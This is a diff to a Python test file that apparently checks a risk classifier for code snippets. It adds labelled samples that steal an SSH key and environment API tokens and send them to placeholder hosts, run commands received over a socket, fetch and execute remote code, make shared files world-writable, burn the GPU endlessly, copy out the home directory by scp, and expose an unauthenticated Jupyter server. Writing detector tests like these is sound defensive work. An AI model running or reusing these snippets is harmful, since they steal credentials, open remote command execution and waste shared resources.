@@ -925,6 +925,100 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             """,
             S,
         ),
+        # module-level containers filled in one function and sent in another
+        (
+            """
+            import base64, json, os, urllib.request
+            _STATE = {}
+            def collect():
+                with open(os.path.join(*[os.path.expanduser("~"), ".ssh", "id_ed25519"]), "rb") as fh:
+                    _STATE["blob"] = base64.b64encode(fh.read()).decode()
+            def send():
+                collect()
+                body = json.dumps(_STATE).encode()
+                urllib.request.urlopen(urllib.request.Request("https://example.com/p", data=body))
+            send()
+            """,
+            C,
+        ),
+        # several services' credentials in a request body, not a header
+        (
+            """
+            import os, requests
+            keys = ["WANDB_API_KEY", "HF_TOKEN", "AWS_SECRET_ACCESS_KEY"]
+            requests.post("https://example.com/r", json={k: os.environ.get(k) for k in keys})
+            """,
+            H,
+        ),
+        (
+            """
+            import os, requests
+            requests.get("https://api.example.com/v1", headers={"Authorization": f"Bearer {os.environ['API_TOKEN']}"})
+            """,
+            L,
+        ),
+        # a socket handed to a thread; a timer that imports downloaded code
+        (
+            """
+            import socket, subprocess, threading
+            def serve(conn):
+                cmd = conn.recv(1024)
+                subprocess.run(cmd.decode(), shell=True)
+            srv = socket.socket()
+            c, _ = srv.accept()
+            threading.Thread(target=serve, args=(c,)).start()
+            """,
+            C,
+        ),
+        (
+            """
+            import importlib.util, tempfile, urllib.request
+            def refresh():
+                src = urllib.request.urlopen("http://192.0.2.8/p.py").read()
+                with tempfile.NamedTemporaryFile("wb", suffix=".py", delete=False) as tf:
+                    tf.write(src)
+                spec = importlib.util.spec_from_file_location("p", tf.name)
+                spec.loader.exec_module(importlib.util.module_from_spec(spec))
+            """,
+            C,
+        ),
+        # shared trees made world-writable; endless GPU/CPU work; the home archived and copied out
+        (
+            """
+            import os
+            for root, dirs, files in os.walk("/datasets/shared"):
+                for name in files:
+                    os.chmod(os.path.join(root, name), 0o777)
+            """,
+            H,
+        ),
+        (
+            """
+            import torch
+            def burn(dev):
+                a = torch.randn(8192, 8192, device=dev)
+                while True:
+                    a = a @ a
+                    a = a / a.norm()
+            """,
+            H,
+        ),
+        (
+            """
+            import os, subprocess, tarfile
+            with tarfile.open("/tmp/r.tgz", "w:gz") as tar:
+                tar.add(os.path.expanduser("~"))
+            subprocess.run(["scp", "/tmp/r.tgz", "sync@192.0.2.23:/in/"])
+            """,
+            C,
+        ),
+        (
+            """
+            import subprocess
+            subprocess.Popen(["jupyter", "lab", "--ip=0.0.0.0", "--ServerApp.token="])
+            """,
+            H,
+        ),
         # a CI kubeconfig in the temporary directory; content that mentions a path is not the path
         (
             """
